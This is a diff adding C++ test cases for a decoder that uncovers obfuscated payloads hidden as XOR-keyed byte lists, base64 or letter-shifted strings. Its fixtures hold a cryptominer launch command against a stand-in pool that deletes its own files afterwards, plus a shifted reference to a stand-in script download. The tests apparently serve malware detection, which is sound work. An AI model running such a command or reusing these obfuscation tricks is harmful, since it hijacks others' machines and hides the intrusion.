@@ -475,3 +475,55 @@ TEST_CASE("decoders: a part that is too long is cut, and says so") {
   CHECK(found[0].cut);
   CHECK(found[0].bytes.size() > 20'000'000);
 }
+
+namespace {
+
+std::string keyed(std::string text, std::string_view key) {
+  for (std::size_t i = 0; i < text.size(); ++i) {
+    text[i] = static_cast<char>(static_cast<unsigned char>(text[i]) ^
+                                static_cast<unsigned char>(key[i % key.size()]));
+  }
+  return text;
+}
+
+std::string listed(std::string_view bytes) {
+  std::string text = "d = [";
+  for (const char c : bytes) text += std::to_string(static_cast<unsigned char>(c)) + ", ";
+  text.replace(text.size() - 2, 2, "]\n");
+  return text;
+}
+
+bool shows(const std::vector<Decoded>& found, std::string_view text) {
+  return std::any_of(found.begin(), found.end(), [&](const Decoded& part) {
+    return part.bytes.find(text) != std::string::npos;
+  });
+}
+
+const std::string kCommand =
+    "/opt/a/worker --url=stratum+tcp://pool.example:3333 -u somebody.rig7 -p x --background "
+    "--print-time=60 >/dev/null 2>&1 & sleep 5; rm -f /opt/a/worker /opt/a/settings.json; exit 0\n"
+    "# and some more of what such scripts say when they are as long as scripts are\n";
+
+}  // namespace
+
+TEST_CASE("decoders: a list, base64 or hex of bytes under a key of several") {
+  for (const std::string_view key : {"k", "k3", "\x9a\x41\xe0", "lodash", "0123456789abcdef"}) {
+    CAPTURE(key);
+    const std::string bytes = keyed(kCommand, key);
+    CHECK(shows(decoded(listed(bytes)), kCommand));
+    CHECK(shows(decoded("x = \"" + test::base64_of(bytes) + "\"\n"), kCommand));
+  }
+  std::string more = kCommand;
+  for (char& c : more) c = static_cast<char>(c + 7);
+  CHECK(shows(decoded(listed(more)), kCommand));
+  CHECK(decoded(listed(test::noise(200, 3))).size() == 1);
+}
+
+TEST_CASE("decoders: addresses whose letters were moved on") {
+  CHECK(shows(decoded("x = '-v zayhabt+ajw://wvvs.lehtwsl:3333 -b dvyrly'\n"),
+              "-o stratum+tcp://pool.example:3333 -u worker"));
+  CHECK(
+      shows(decoded("x = 'fgenghz+gpc://cbby.rknzcyr:3333'\n"), "stratum+tcp://pool.example:3333"));
+  CHECK(shows(decoded("x = 'kwws://gurs.hadpsoh/a.vk'\n"), "http://drop.example/x.sh"));
+  CHECK(decoded("https://a.example/ ftp://b.example/ udp://c.example git://d.example\n").empty());
+}
